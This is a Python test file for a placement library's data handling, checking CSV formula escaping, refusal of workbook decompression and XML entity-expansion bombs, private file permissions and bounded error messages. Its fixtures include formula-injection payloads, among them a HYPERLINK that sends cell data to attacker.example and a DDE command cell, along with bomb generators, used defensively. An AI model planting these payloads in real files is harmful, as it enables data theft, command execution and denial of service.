"""The data boundary: CSV cells no spreadsheet runs as formulas, workbooks and CSV files that
cannot exhaust the machine, and outputs holding personal data readable by their owner only."""

from __future__ import annotations

import csv
import json
import os
import re
import stat
import tracemalloc
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from typer.testing import CliRunner

import placement as pl
from placement import io
from placement.cli import app
from placement.csv_cells import FORMULA_TRIGGERS, cell_text, csv_text, read_cell
from placement.io import limits

runner = CliRunner()

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\rx",
]
"""Text a spreadsheet would run as formulas (OWASP's list of first characters)."""
HOSTILE_IDS = HOSTILE[:4]
"""Those an id may be: the model refuses control characters (a tab, a carriage return)."""


LISTABLE = ["+cmd", "-2+3", "@SUM(A1)", "+1", "-x"]
"""Formula-like ids a spreadsheet list cell can hold (no ';', '|', '=' or edge spaces)."""


@pytest.fixture(scope="module")
def hostile() -> pl.Problem:
    """A small problem whose client and unit ids and unit names start like formulas."""
    return _hostile(HOSTILE_IDS)


def _hostile(starts: list[str]) -> pl.Problem:
    base = pl.datasets.synthetic(n_clients=12, n_units=6, seed=5)
    unit_ids = {u.id: f"{starts[k % len(starts)]}u{k}" for k, u in enumerate(base.units)}
    client_ids = {c.id: f"{starts[k % len(starts)]}c{k}" for k, c in enumerate(base.clients)}
    renamed = {**unit_ids, **client_ids}
    data = _renamed(base.model_dump(mode="json"), renamed)
    for u in data["units"]:
        u["name"] = "=1+1 home"
    return pl.Problem.model_validate(data)


def _renamed(value: object, names: dict[str, str]) -> object:
    """``value`` with every string (and key) that is an id replaced by its new name."""
    if isinstance(value, dict):
        return {names.get(k, k): _renamed(v, names) for k, v in value.items()}
    if isinstance(value, list):
        return [_renamed(v, names) for v in value]
    return names.get(value, value) if isinstance(value, str) else value


def _cells(path: Path) -> Iterator[str]:
    with path.open(encoding="utf-8", newline="") as f:
        for row in csv.reader(f):
            yield from row


def _number(cell: str) -> bool:
    """A number is not a formula: ``-192.0`` stays as it is."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _assert_neutral(path: Path) -> int:
    """Every cell of ``path`` is safe; returns how many escaped cells it holds."""
    escaped = 0
    for cell in _cells(path):
        assert _number(cell) or not cell.startswith(FORMULA_TRIGGERS), (path.name, cell[:40])
        if cell.startswith("'") and cell[1:].startswith(FORMULA_TRIGGERS):
            escaped += 1
    return escaped


def test_cells_are_escaped_and_read_back() -> None:
    for text in HOSTILE:
        written = cell_text(text)
        assert written == "'" + text
        assert read_cell(written) == text
    assert cell_text(-2.5) == "-2.5"  # a number stays a number
    assert cell_text("plain") == "plain"
    assert read_cell("'plain") == "'plain"  # only the library's own escape is undone
    line = csv_text(["id"], [["=1+1"]]).splitlines()[1]
    assert line == '"\'=1+1"'  # apostrophe and quotes, as OWASP advises


def test_csv_folder_is_neutral_and_round_trips(tmp_path: Path) -> None:
    hostile = _hostile(LISTABLE)
    io.write_csv(tmp_path / "csv", hostile)
    files = sorted((tmp_path / "csv").glob("*.csv"))
    assert sum(_assert_neutral(p) for p in files) >= len(hostile.clients) + len(hostile.units)
    assert io.read_csv(tmp_path / "csv", check_region=False) == hostile


def test_every_command_csv_is_neutral(hostile: pl.Problem, tmp_path: Path) -> None:
    """explain --all, waits and the simulation tables, with hostile ids and names."""
    problem_file, result_file = tmp_path / "p.json", tmp_path / "r.json"
    problem_file.write_text(hostile.model_dump_json(), encoding="utf-8")
    assert runner.invoke(app, ["solve", str(problem_file), "-o", str(result_file)]).exit_code == 0
    runs = {
        "explanations.csv": ["explain", str(problem_file), str(result_file), "--all"],
        "waits.csv": ["waits", str(problem_file), "--replications", "2"],
    }
    for name, args in runs.items():
        done = runner.invoke(app, [*args, "-o", str(tmp_path / name)])
        assert done.exit_code == 0, done.output
        assert _assert_neutral(tmp_path / name) > 0, name
    scenario = pl.simulate.Scenario.from_problem(hostile, horizon_days=60.0)
    scenario_file = tmp_path / "scenario.json"
    scenario_file.write_text(scenario.model_dump_json(), encoding="utf-8")
    out = tmp_path / "sim"
    done = runner.invoke(
        app, ["simulate", str(scenario_file), "--replications", "2", "--out-dir", str(out)]
    )
    assert done.exit_code == 0, done.output
    tables = sorted(out.glob("*.csv"))
    assert tables
    for path in tables:
        _assert_neutral(path)


def test_tracker_export_is_neutral(tmp_path: Path) -> None:
    from placement.pathway import Tracker
    from placement.pathway.export import write_csv

    tracker = Tracker(":memory:")
    for k, text in enumerate(HOSTILE[:4]):
        tracker.open_case(
            f"{text[:20]}{k}", "2025-03-03", municipality="Espoo", social_worker="@sw"
        )
    path = write_csv(tracker, tmp_path / "log.csv")
    assert _assert_neutral(path) >= 8  # each case id and social worker


# -- bombs ------------------------------------------------------------------------------------
def _workbook(path: Path, sheet_xml: Iterator[bytes]) -> Path:
    """A workbook with a real workbook part and ``sheet_xml`` as its first sheet."""
    source = path.with_suffix(".template.xlsx")
    io.write_template(source)
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(path, "w") as bomb:
        sheet = next(n for n in original.namelist() if n.startswith("xl/worksheets/"))
        for info in original.infolist():
            if info.filename != sheet:
                bomb.writestr(info, original.read(info))
        part = zipfile.ZipInfo(sheet)
        part.compress_type = zipfile.ZIP_DEFLATED
        with bomb.open(part, "w", force_zip64=True) as out:  # in chunks: never held whole
            for chunk in sheet_xml:
                out.write(chunk)
    return path


_HEAD = (
    b'<?xml version="1.0"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)


def _rows(n: int) -> Iterator[bytes]:
    yield _HEAD + b"<sheetData>"
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
    for _ in range(n // 10_000):
        yield row * 10_000
    yield b"</sheetData></worksheet>"


def _huge_cell(n_bytes: int) -> Iterator[bytes]:
    yield _HEAD + b'<sheetData><row><c t="inlineStr"><is><t>'
    for _ in range(n_bytes // 1_000_000):
        yield b"A" * 1_000_000
    yield b"</t></is></c></row></sheetData></worksheet>"


def _laughs() -> Iterator[bytes]:
    entities = "".join(f'<!ENTITY l{k} "{("&l" + str(k - 1) + ";") * 10}">' for k in range(1, 10))
    yield (
        '<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY l0 "ha">'
        + entities
        + ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row><c t="inlineStr"><is><t>&l9;</t></is></c></row></sheetData></worksheet>'
    ).encode()


def _refused(path: Path, reader: object = io.read_excel) -> pl.ProblemError:
    tracemalloc.start()
    try:
        with pytest.raises(pl.ProblemError) as refused:
            reader(path)  # type: ignore[operator]
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 200 * 1024**2, f"{peak / 1024**2:.0f} MB"
    text = str(refused.value)
    assert "bug" not in text
    assert len(text.splitlines()[0]) < 300
    return refused.value


def test_many_rows_bomb(tmp_path: Path) -> None:
    path = _workbook(tmp_path / "rows.xlsx", _rows(4_000_000))
    assert path.stat().st_size < 2 * 1024**2  # a small file ...
    assert "decompression bomb" in str(_refused(path))  # ... that would unpack to 200 MB


def test_one_huge_cell(tmp_path: Path) -> None:
    path = _workbook(tmp_path / "cell.xlsx", _huge_cell(300_000_000))
    assert "decompression bomb" in str(_refused(path))


def test_entity_expansion(tmp_path: Path) -> None:
    path = _workbook(tmp_path / "laughs.xlsx", _laughs())
    assert "entities" in str(_refused(path))


def test_rows_past_the_limit_in_a_workbook(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """An honest workbook with more rows than allowed (the limit lowered to keep it small)."""
    monkeypatch.setattr(limits, "MAX_ROWS", 5)
    path = tmp_path / "many.xlsx"
    io.write_excel(path, pl.datasets.synthetic(n_clients=20, n_units=4, seed=1))
    assert "more than 5 rows" in str(_refused(path))


def test_csv_with_a_million_columns(tmp_path: Path) -> None:
    folder = tmp_path / "wide"
    folder.mkdir()
    (folder / "clients.csv").write_text(",".join(["x"] * 1_000_000) + "\n", encoding="utf-8")
    assert "columns" in str(_refused(folder, io.read_csv))


def test_csv_with_a_huge_field(tmp_path: Path) -> None:
    folder = tmp_path / "field"
    folder.mkdir()
    (folder / "clients.csv").write_text("id\n" + "A" * 200_000 + "\n", encoding="utf-8")
    _refused(folder, io.read_csv)


# -- private files ----------------------------------------------------------------------------
@pytest.fixture
def umask_022() -> Iterator[None]:
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_outputs_are_private(umask_022: None, tmp_path: Path) -> None:
    problem = pl.datasets.synthetic(n_clients=10, n_units=4, seed=2)
    problem_file, result_file = tmp_path / "p.json", tmp_path / "out" / "r.json"
    problem_file.write_text(problem.model_dump_json(), encoding="utf-8")
    result_file.parent.mkdir()
    assert runner.invoke(app, ["solve", str(problem_file), "-o", str(result_file)]).exit_code == 0
    book = tmp_path / "result.xlsx"
    assert runner.invoke(app, ["solve", str(problem_file), "-o", str(book)]).exit_code == 0
    folder = tmp_path / "new" / "csv"
    io.write_csv(folder, problem)
    written = [result_file, book, *folder.glob("*.csv")]
    assert len(written) > 3
    assert {p.name: _mode(p) for p in written} == {p.name: 0o600 for p in written}
    assert _mode(folder) == 0o700
    assert _mode(tmp_path / "new") == 0o700


def test_an_overwritten_output_becomes_private(umask_022: None, tmp_path: Path) -> None:
    old = tmp_path / "explanations.csv"
    old.write_text("old", encoding="utf-8")
    assert _mode(old) == 0o644
    from placement.csv_cells import write_csv

    write_csv(old, ["a"], [[1]])
    assert _mode(old) == 0o600


def test_the_tracker_store_is_private(umask_022: None, tmp_path: Path) -> None:
    from placement.pathway import Tracker

    store = tmp_path / "cases.sqlite"
    tracker = Tracker(store)
    tracker.open_case("c1", "2025-03-03", municipality="Espoo", social_worker="sw1")
    files = [p for p in tmp_path.iterdir() if p.name.startswith("cases.sqlite")]
    assert store in files
    assert {p.name: _mode(p) for p in files} == {p.name: 0o600 for p in files}


def test_the_mode_can_be_relaxed(
    umask_022: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PLACEMENT_FILE_MODE", "640")
    from placement.csv_cells import write_csv

    assert _mode(write_csv(tmp_path / "x.csv", ["a"], [[1]])) == 0o640


def test_a_case_is_erased_without_a_trace(tmp_path: Path) -> None:
    from placement.pathway import Tracker

    tracker = Tracker(tmp_path / "cases.sqlite")
    for case in ("c1", "c2"):
        tracker.open_case(case, "2025-03-03", municipality="Espoo", social_worker="sw1")
        tracker.record(
            case, "needs_assessment", "2025-03-06", role="regional_social_worker", resource="sw1"
        )
    assert tracker.erase("c1") == 2
    assert [c.id for c in tracker.cases()] == ["c2"]
    assert {e.case_id for e in tracker.events()} == {"c2"}
    with pytest.raises(pl.ProblemError, match="no such case"):
        tracker.erase("c1")
    assert len(tracker.events()) == 2  # a refused erase deletes nothing


# -- bounded strings --------------------------------------------------------------------------
def _client_id(problem: pl.Problem, new_id: str) -> dict[str, object]:
    data = problem.model_dump(mode="json")
    old = data["clients"][0]["id"]
    return _renamed(data, {old: new_id})  # type: ignore[return-value]


def test_ids_are_at_most_64_printable_characters() -> None:
    problem = pl.datasets.synthetic(n_clients=5, n_units=3, seed=1)
    assert pl.Problem.model_validate(_client_id(problem, "c" * 64)).clients[0].id == "c" * 64
    with pytest.raises(pl.ProblemError) as refused:
        pl.Problem.model_validate(_client_id(problem, "c" * 65))
    issue = refused.value.issues[0]
    assert "64 characters" in issue.message
    assert issue.hint
    with pytest.raises(pl.ProblemError, match="control character"):
        pl.Problem.model_validate(_client_id(problem, "c\t1"))
    data = problem.model_dump(mode="json")
    data["units"][0]["name"] = "n" * 201
    with pytest.raises(pl.ProblemError, match="too long"):
        pl.Problem.model_validate(data)


def _longest_value(text: str) -> int:
    return max((len(run) for run in re.findall(r"[^\s\[\]'\"().,:;]+", text)), default=0)


@pytest.mark.parametrize(
    "name", sorted(p.name for p in (Path(__file__).parent / "data" / "broken").glob("*.json"))
)
def test_no_error_echoes_a_long_value(name: str) -> None:
    """Every file of the broken-input corpus, its ids made 5,000 characters long: each error
    shows at most 80 characters of any value."""
    raw = (Path(__file__).parent / "data" / "broken" / name).read_text(encoding="utf-8")
    try:
        data = json.loads(raw)
    except json.JSONDecodeError:
        data = None
    if isinstance(data, dict):
        ids = {
            x["id"]
            for key in ("clients", "units")
            for x in data.get(key, [])
            if isinstance(x, dict) and isinstance(x.get("id"), str)
        }
        data = _renamed(data, {i: i + "x" * 5_000 for i in ids})
        raw = json.dumps(data)
    with pytest.raises(pl.ProblemError) as refused:
        pl.Problem.model_validate_json(raw) if data is None else pl.Problem.model_validate(data)
    assert _longest_value(str(refused.value)) <= 80
    for issue in refused.value.issues:
        assert _longest_value(str(issue)) <= 80


def test_an_export_that_cannot_be_written_names_the_path(tmp_path: Path) -> None:
    """A full disk is one line naming the file (it said "cannot write None: None"); missing
    folders on the way are created, private."""
    disk = tmp_path / "full.csv"
    disk.symlink_to("/dev/full")  # a file on a full disk
    export = ["pathway", "export", "--demo", "--format", "csv", "--force"]
    full = runner.invoke(app, [*export, "-o", str(disk)])
    assert full.exit_code == 2
    assert f"cannot write {disk}: No space left on device" in full.output
    assert "None" not in full.output
    wrong = runner.invoke(app, ["pathway", "export", "--demo", "-o", str(tmp_path / "log.txt")])
    assert wrong.exit_code == 2
    assert "the csv export is a .csv file" in wrong.output
    target = tmp_path / "new" / "deeper" / "log.csv"
    done = runner.invoke(app, ["pathway", "export", "--demo", "--format", "csv", "-o", str(target)])
    assert done.exit_code == 0, done.output
    assert _mode(target.parent) == 0o700
